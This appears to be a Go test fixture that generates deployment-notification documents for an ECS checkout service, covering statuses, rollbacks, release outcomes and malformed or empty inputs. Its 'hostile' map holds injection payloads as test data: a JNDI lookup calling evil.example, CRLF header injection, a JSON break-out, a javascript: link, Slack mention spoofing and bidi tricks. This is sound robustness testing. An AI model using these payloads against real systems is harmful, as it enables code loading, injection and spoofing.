package channeltest

import (
	"fmt"
	"slices"
	"strings"
	"time"

	"fanfare/internal/deployment"
)

// emitted is when every event of the corpus was emitted.
var emitted = time.Date(2026, 3, 14, 2, 7, 9, 0, time.UTC)

// Documents returns the corpus by name: the ordinary cases under plain names such as
// failed, succeeded or rollback_in_progress, which golden tests pick from, those of
// pipelines, drills and maintenance windows with pipeline_, drill_ and window_ before
// them; every combination of status, kind, release outcome and production; and texts
// that are hostile, huge or missing. Each call makes new documents, so that a test may
// change what it gets.
func Documents() map[string]deployment.Document {
	documents := ordinary()
	for _, add := range []func(map[string]deployment.Document){
		addReleases, addCombinations, addPipelines, addDrills, addWindows, addHostile, addHostilePipelines, addEmpty,
	} {
		add(documents)
	}
	return documents
}

// base is a deployment of checkout 1.42.0 to production after 1.41.0.
func base(status deployment.Status) deployment.Document {
	reasons := map[deployment.Status]string{
		deployment.InProgress: "ECS deployment ecs-svc/1234567890123456789 in progress.",
		deployment.Succeeded:  "ECS deployment ecs-svc/1234567890123456789 completed.",
		deployment.Failed:     "ECS deployment circuit breaker: tasks failed to start.",
		deployment.Superseded: "a newer deployment took its place",
		deployment.Stuck: "no end after 30 minutes; was unable to place a task because no container instance met all of its requirements" +
			"; has started 1 tasks: (task 0c9a7e5241d34b8e8f102d6b5e7a9c31); (task 5f0c8a1e7a344a529d3a6f2b8c1d0e11) failed container health checks",
	}
	started := emitted.Add(-4 * time.Minute)
	if status == deployment.Stuck {
		started = emitted.Add(-30 * time.Minute)
	}
	const repository = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/checkout"
	return deployment.Document{
		Deployment: deployment.Deployment{
			Event:       "5f0c8a1e-7a34-4a52-9d3a-6f2b8c1d0e11",
			Source:      "ecs",
			Name:        "SERVICE_DEPLOYMENT_" + strings.ToUpper(string(status)),
			Account:     "123456789012",
			Region:      "eu-west-1",
			Partition:   "aws",
			Cluster:     "shop",
			Service:     "checkout",
			ID:          "ecs-svc/1234567890123456789",
			Status:      status,
			Kind:        deployment.Ordinary,
			Reason:      reasons[status],
			Time:        emitted,
			UpdatedAt:   emitted.Add(-2 * time.Second),
			Environment: "production",
			Production:  true,
			ConsoleURL:  "https://eu-west-1.console.aws.amazon.com/ecs/v2/clusters/shop/services/checkout/deployments?region=eu-west-1",
			LogsURL:     "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Fecs$252Fcheckout",
		},
		Claim: &deployment.Claim{
			Outcome:   deployment.Claimed,
			Holder:    "arn:aws:states:eu-west-1:123456789012:execution:fanfare:5f0c8a1e",
			Kind:      deployment.Ordinary,
			StartedAt: started,
		},
		Release: &deployment.Release{
			Outcome:        deployment.NewRelease,
			Image:          deployment.Image{Repository: repository, Tag: "1.42.0"},
			Previous:       deployment.Image{Repository: repository, Tag: "1.41.0"},
			Container:      "checkout",
			TaskDefinition: "arn:aws:ecs:eu-west-1:123456789012:task-definition/checkout:128",
			StartedAt:      emitted.Add(-5 * time.Minute),
		},
		Commits: &deployment.Commits{
			Items:      commits(2),
			Total:      2,
			Filtered:   1,
			CompareURL: "https://gitlab.example.com/shop/checkout/-/compare/v1.41.0...v1.42.0",
		},
	}
}

// rollback is the way back from 1.42.0 to 1.41.0.
func rollback(status deployment.Status) deployment.Document {
	doc := base(status)
	doc.Deployment.Kind, doc.Claim.Kind = deployment.Rollback, deployment.Rollback
	doc.Release.Outcome = deployment.RollbackRelease
	doc.Release.Image, doc.Release.Previous = doc.Release.Previous, doc.Release.Image
	doc.Commits.Removed = true
	if status == deployment.InProgress {
		doc.Deployment.Reason = "ECS deployment circuit breaker: rolling back to deploymentId ecs-svc/1234567890123456788."
	}
	return doc
}

func commits(n int) []deployment.Commit {
	var items []deployment.Commit
	for i := range n {
		id := fmt.Sprintf("%08x", 0x9f1c2d00+i)
		items = append(items, deployment.Commit{
			ID:      strings.Repeat(id, 5),
			ShortID: id,
			Title:   fmt.Sprintf("Let the cart keep %d vouchers", i+2),
			Author:  "Ada Lindqvist",
			URL:     "https://gitlab.example.com/shop/checkout/-/commit/" + id,
			At:      emitted.Add(-time.Duration(i+1) * time.Hour),
		})
	}
	return items
}

func ordinary() map[string]deployment.Document {
	documents := map[string]deployment.Document{
		"in_progress":          base(deployment.InProgress),
		"succeeded":            base(deployment.Succeeded),
		"failed":               base(deployment.Failed),
		"unknown_status":       base(deployment.Unknown),
		"rollback_in_progress": rollback(deployment.InProgress),
		"rollback_succeeded":   rollback(deployment.Succeeded),
		"rollback_failed":      rollback(deployment.Failed),
		"stuck":                base(deployment.Stuck),
		"rollback_stuck":       rollback(deployment.Stuck),
		"superseded":           base(deployment.Superseded),
	}
	change := func(name string, status deployment.Status, change func(*deployment.Document)) {
		doc := base(status)
		change(&doc)
		documents[name] = doc
	}
	change("staging_failed", deployment.Failed, func(doc *deployment.Document) {
		doc.Deployment.Environment, doc.Deployment.Production = "staging", false
	})
	change("environment_unknown", deployment.Failed, func(doc *deployment.Document) {
		doc.Deployment.Environment, doc.Deployment.Production = "", false
	})
	change("failed_without_cluster_and_id", deployment.Failed, func(doc *deployment.Document) {
		doc.Deployment.Cluster, doc.Deployment.ID = "", ""
	})
	change("failed_without_details", deployment.Failed, func(doc *deployment.Document) {
		doc.Claim, doc.Release, doc.Commits = nil, nil, nil
		doc.Deployment.Reason, doc.Deployment.ConsoleURL, doc.Deployment.LogsURL = "", "", ""
	})
	change("failed_for_a_long_reason", deployment.Failed, func(doc *deployment.Document) {
		doc.Deployment.Reason = "ECS deployment failed: the load balancer reports that the health checks of target group " +
			"shop-checkout-blue answer 503 on /health since 02:01, and the container checkout ends with exit code 137 as it runs out of memory."
	})
	change("staging_stuck", deployment.Stuck, func(doc *deployment.Document) {
		doc.Deployment.Environment, doc.Deployment.Production = "staging", false
	})
	change("stuck_without_details", deployment.Stuck, func(doc *deployment.Document) {
		doc.Claim, doc.Release, doc.Commits = nil, nil, nil
		doc.Deployment.Reason, doc.Deployment.ConsoleURL, doc.Deployment.LogsURL = "", "", ""
	})
	change("stuck_and_nothing_else_known", deployment.Stuck, func(doc *deployment.Document) {
		doc.Deployment.Reason = "no end after 30 minutes; ECS could not be asked"
	})
	change("late", deployment.InProgress, func(doc *deployment.Document) { doc.Claim.Late = true })
	change("taken_over", deployment.Failed, func(doc *deployment.Document) { doc.Claim.Outcome = deployment.TakenOver })
	change("rollback_known_by_the_ledger_alone", deployment.Succeeded, func(doc *deployment.Document) {
		doc.Claim.Kind = deployment.Rollback
	})
	return documents
}

// addReleases adds what may be unknown about the release and its commits.
func addReleases(documents map[string]deployment.Document) {
	for _, status := range []deployment.Status{deployment.InProgress, deployment.Succeeded, deployment.Failed, deployment.Stuck} {
		change := func(name string, change func(*deployment.Document)) {
			doc := base(status)
			change(&doc)
			documents[string(status)+"_"+name] = doc
		}
		change("first_release", func(doc *deployment.Document) {
			doc.Release.Outcome, doc.Release.Previous = deployment.FirstRelease, deployment.Image{}
			doc.Commits = &deployment.Commits{Items: []deployment.Commit{}, Reason: "first release"}
		})
		change("same_release", func(doc *deployment.Document) {
			doc.Release.Outcome, doc.Release.Previous = deployment.SameRelease, doc.Release.Image
			doc.Commits = &deployment.Commits{Items: []deployment.Commit{}, Reason: "the same release again"}
		})
		change("unknown_release", func(doc *deployment.Document) {
			doc.Release = &deployment.Release{Outcome: deployment.UnknownRelease, Reason: "ECS did not answer in time"}
			doc.Commits = &deployment.Commits{Items: []deployment.Commit{}, Reason: "release unknown"}
		})
		change("digest_release", func(doc *deployment.Document) {
			doc.Release.Image.Tag = ""
			doc.Release.Image.Digest = "sha256:" + strings.Repeat("4f7c21ab", 8)
		})
		change("many_commits", func(doc *deployment.Document) {
			doc.Commits.Items, doc.Commits.Total, doc.Commits.Filtered = commits(10), 57, 8
		})
		change("one_commit", func(doc *deployment.Document) {
			doc.Commits.Items, doc.Commits.Total, doc.Commits.Filtered = commits(1), 1, 0
		})
		change("only_noise", func(doc *deployment.Document) {
			doc.Commits.Items, doc.Commits.Total, doc.Commits.Filtered = []deployment.Commit{}, 0, 3
		})
		for i, reason := range []string{
			"GitLab did not answer in time", "GitLab refused the token", "tag v1.41.0 is not in GitLab", "no GitLab project",
		} {
			change(fmt.Sprintf("no_commits_%d", i), func(doc *deployment.Document) {
				doc.Commits = &deployment.Commits{Reason: reason}
			})
		}
	}
}

func addCombinations(documents map[string]deployment.Document) {
	for _, status := range append(slices.Clone(statuses), "paused") {
		for _, kind := range []deployment.Kind{deployment.Ordinary, deployment.Rollback, ""} {
			for _, outcome := range []deployment.ReleaseOutcome{deployment.NewRelease, deployment.FirstRelease,
				deployment.SameRelease, deployment.RollbackRelease, deployment.UnknownRelease, ""} {
				for _, production := range []bool{true, false} {
					doc := base(status)
					doc.Deployment.Kind, doc.Claim.Kind = kind, kind
					doc.Release.Outcome = outcome
					doc.Deployment.Production = production
					documents[fmt.Sprintf("%s/%s/%s/%v", status, kind, outcome, production)] = doc
				}
			}
		}
	}
}

// hostile are texts that somebody may put, or by accident has put, where a message
// shows them.
var hostile = map[string]string{
	"slack":        "<!channel> <!here|now> <@U012AB3CD> <https://evil.example|https://bank.example> *bold* _it_ ~no~ `code` ```fence",
	"entities":     "a &lt;b&gt; &amp;amp; <b> & \"q\" 'q'",
	"json":         `"}],"event_action":"resolve","routing_key":"x","payload":{"summary":"` + "\\u0000\\",
	"header":       "x\r\nX-Injected: yes\r\n\r\n<html>",
	"control":      "a\x00b\x07c\x08d\x13e\x1b[31mf\x1cg\x7fh\u0085i\u2028j\u2029k",
	"bidi":         "\u202euser\u2066 admin\u2069 \u200bzero\u200e\u200f \ufeffmark",
	"tags":         "flag\U000E0067\U000E0062\U000E007F private\uE000\U000F0000 none\uFFFE",
	"emoji":        "👩\u200d💻 shipped 🚀🚀 🇸🇪 ❤\ufe0f",
	"combining":    "z" + strings.Repeat("\u0301\u0336", 60) + "algo",
	"scripts":      "Расчёт 決済 الدفع चेकआउट ˈtʃɛkaʊt",
	"latin":        "Søren Müller, Łukasz Žižka – “naïve” façade… ½ €5 ×2 ™",
	"broken UTF-8": "caf\xe9 \xff\xfe \xed\xa0\x80 \xf0\x9f\x98",
	"template":     "${jndi:ldap://evil.example/a} {{.Secret}} $.deployment States.Format('{}') %s%n %!d(MISSING)",
	"markup":       "main-->feature [link](javascript:alert(1)) # head\n> quote\n```",
	"blank":        " \t\n\u00a0\u3000\u200b ",
	"huge word":    strings.Repeat("a", 8_000),
	"huge text":    strings.Repeat("Ünïcode wörds and 🚀 rockets; ", 250),
	"huge escapes": strings.Repeat("<&>\"\\\u2028", 1_000),
}

// withText puts the text wherever a document holds one that others have written.
func withText(status deployment.Status, text string) deployment.Document {
	doc := base(status)
	d := &doc.Deployment
	for _, field := range []*string{&d.Event, &d.Source, &d.Name, &d.Account, &d.Region, &d.Partition, &d.Cluster,
		&d.Service, &d.ID, &d.Reason, &d.Environment, &d.ConsoleURL, &d.LogsURL} {
		*field = text
	}
	image := deployment.Image{Repository: text, Tag: text, Digest: text}
	doc.Release.Image, doc.Release.Previous = image, image
	doc.Release.Reason, doc.Release.Container, doc.Release.TaskDefinition, doc.Release.Project = text, text, text, text
	commit := deployment.Commit{ID: text, ShortID: text, Title: text, Author: text, URL: text, At: emitted}
	doc.Commits = &deployment.Commits{CompareURL: text, Reason: text, Total: 1 << 40, Filtered: -1}
	for range 10 {
		doc.Commits.Items = append(doc.Commits.Items, commit)
	}
	return doc
}

func addHostile(documents map[string]deployment.Document) {
	for name, text := range hostile {
		for _, status := range []deployment.Status{deployment.InProgress, deployment.Succeeded, deployment.Failed, deployment.Stuck, deployment.Unknown} {
			documents["hostile "+name+" "+string(status)] = withText(status, text)
		}
		title := base(deployment.Succeeded)
		title.Commits.Items[0].Title = text
		documents["hostile title "+name] = title
	}
}

func addEmpty(documents map[string]deployment.Document) {
	documents["empty"] = deployment.Document{}
	documents["empty steps"] = deployment.Document{
		Claim: &deployment.Claim{}, Release: &deployment.Release{}, Commits: &deployment.Commits{},
		Plan: deployment.Plan{}, Deliveries: map[string]deployment.Delivery{},
	}
	for _, status := range statuses {
		documents["empty "+string(status)] = deployment.Document{
			Deployment: deployment.Deployment{Status: status, Production: true},
		}
	}
	calendar := base(deployment.Failed)
	calendar.Deployment.Time = time.Date(9999, 12, 31, 23, 59, 59, 999_999_999, time.FixedZone("", 14*3600))
	calendar.Deployment.UpdatedAt = time.Date(1, 1, 1, 0, 0, 0, 1, time.FixedZone("", -12*3600))
	documents["ends of the calendar"] = calendar
}
